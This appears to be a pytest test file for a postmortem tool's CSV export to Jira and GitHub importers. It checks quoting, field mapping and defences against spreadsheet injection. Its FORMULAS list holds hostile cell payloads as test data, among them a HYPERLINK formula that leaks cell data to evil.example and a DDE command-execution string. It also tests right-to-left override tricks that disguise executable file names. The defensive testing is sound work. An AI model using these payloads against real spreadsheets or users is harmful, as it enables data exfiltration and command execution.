"""Action items as CSV for Jira's and GitHub's importers, read back with csv.reader."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pmtui.core.models import ActionItem, ActionStatus, ActionType, Postmortem, Priority
from pmtui.export import render_csv
from pmtui.service.files import read_session_file
from tests.conftest import SAMPLES

HEADER = ["Summary", "Description", "Assignee", "Due Date", "Priority", "Labels", "Status"]
HEADER += ["Issue Type"]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_rows_quoted_and_mapped() -> None:
    pm = Postmortem(
        title='Checkout "errors", then more',
        incident_id="INC-7",
        action_items=[
            ActionItem(
                title='Add a guard, "really"\nwith a second line',
                owner="Ana Lima",
                due=date(2026, 12, 4),
                priority=Priority.P0,
                type=ActionType.PREVENT,
                ticket="OPS-1",
                status=ActionStatus.OPEN,
            ),
            ActionItem(
                title="Write the runbook", priority=Priority.P3, status=ActionStatus.WONT_DO
            ),
        ],
    )
    text = render_csv(pm)
    assert text.startswith(",".join(HEADER) + "\r\n") and text.endswith("\r\n")
    rows = read(text)
    assert rows[0] == HEADER and len(rows) == 3
    first, second = rows[1], rows[2]
    # A summary is one line; the action as typed, line break and all, is in the description.
    assert first[0] == 'Add a guard, "really" with a second line'
    assert first[1] == (
        'Action item from the postmortem of INC-7: Checkout "errors", then more.\n'
        "Type: prevent. Priority: P0.\nTicket: OPS-1\n\n"
        'Add a guard, "really"\nwith a second line'
    )
    assert first[2:] == ["Ana Lima", "2026-12-04", "Highest", "postmortem;prevent", "To Do", "Task"]
    assert second == [
        "Write the runbook",
        'Action item from the postmortem of INC-7: Checkout "errors", then more.\n'
        "Type: other. Priority: P3.",
        "",
        "",
        "Low",
        "postmortem;other",
        "Won't Do",
        "Task",
    ]


@pytest.mark.parametrize(
    ("priority", "shown"),
    [
        (Priority.P0, "Highest"),
        (Priority.P1, "High"),
        (Priority.P2, "Medium"),
        (Priority.P3, "Low"),
    ],
)
def test_priorities(priority: Priority, shown: str) -> None:
    rows = read(render_csv(Postmortem("x", action_items=[ActionItem("a", priority=priority)])))
    assert rows[1][4] == shown


@pytest.mark.parametrize(
    ("status", "shown"),
    [(ActionStatus.OPEN, "To Do"), (ActionStatus.DONE, "Done"), (ActionStatus.WONT_DO, "Won't Do")],
)
def test_statuses(status: ActionStatus, shown: str) -> None:
    rows = read(render_csv(Postmortem("x", action_items=[ActionItem("a", status=status)])))
    assert rows[1][6] == shown


def test_no_action_items_is_the_header_alone() -> None:
    assert render_csv(Postmortem("x")) == ",".join(HEADER) + "\r\n"


def test_a_long_title_is_cut_in_the_summary_and_whole_in_the_description() -> None:
    title = "word " * 100
    row = read(render_csv(Postmortem("x", action_items=[ActionItem(title)])))[1]
    assert len(row[0]) == 255 and row[0].endswith("…")
    assert row[1].endswith(title.strip())


# Any text but surrogates and format characters (zero-width and bidi: tested below).
TEXT = st.text(alphabet=st.characters(exclude_categories=["Cs", "Cf"]), max_size=30)


def inert(text: str) -> str:
    """What the cell of `text` reads: a formula's first character behind a `'`."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


@given(st.lists(TEXT, max_size=5), TEXT)
def test_any_text_round_trips(titles: list[str], owner: str) -> None:
    pm = Postmortem('t, "q"\n', action_items=[ActionItem(t, owner=owner) for t in titles])
    rows = read(render_csv(pm))
    assert len(rows) == 1 + len(titles)
    assert all(len(row) == len(HEADER) for row in rows)
    for row, title in zip(rows[1:], titles, strict=True):
        assert row[0] == inert(" ".join(title.split()) or "Postmortem action item")
        assert row[2] == inert(" ".join(owner.split()))
        assert 't, "q"' in row[1]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\u200b=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_starts_a_formula(formula: str) -> None:
    """Every column a user's text reaches, and the description's first line too."""
    pm = Postmortem(
        formula,
        incident_id=formula,
        action_items=[ActionItem(formula, owner=formula, ticket=formula)],
    )
    pm.action_items[0].addresses = formula
    row = read(render_csv(pm))[1]
    for value in row:
        assert value.lstrip(" \u200b")[:1] not in ("=", "+", "-", "@") or value.startswith("'")
        assert value[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert row[0].startswith("'") and row[2].startswith("'")


def test_every_column_is_guarded() -> None:
    """Columns written from fixed words today (dates, priorities) pass the guard too."""
    from pmtui.export.tracker import cell

    assert [cell(v) for v in ("=1", "+1", "-1", "@1", "\t1", "\r1", " =1", "1-1", "")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@1",
        "'\t1",
        "'\r1",
        "' =1",
        "1-1",
        "",
    ]


def test_no_bidi_control_and_no_zero_width_in_names_and_ids() -> None:
    rlo = "\u202e"
    pm = Postmortem(
        f"Invoice {rlo}fdp.exe",
        incident_id="INC\u200b-7",
        action_items=[
            ActionItem(f"Check {rlo}gpj.sh", owner="Zo\u200dë Qu\u2060inn", ticket="OPS\ufeff-1")
        ],
    )
    text = render_csv(pm)
    assert not any(c in text for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    row = read(text)[1]
    assert row[0] == "Check <U+202E>gpj.sh"
    assert row[2] == "Zoë Quinn"
    assert "INC-7: Invoice <U+202E>fdp.exe" in row[1] and "Ticket: OPS-1" in row[1]


@pytest.mark.parametrize("sample", SAMPLES, ids=lambda p: p.stem)
def test_every_sample_s_action_items(sample: Path) -> None:
    pm = read_session_file(sample)
    rows = read(render_csv(pm))
    assert [row[0] for row in rows[1:]] == [a.title for a in pm.action_items]
    assert all(pm.incident_id in row[1] and pm.title in row[1] for row in rows[1:])
    assert [row[5] for row in rows[1:]] == [f"postmortem;{a.type.value}" for a in pm.action_items]
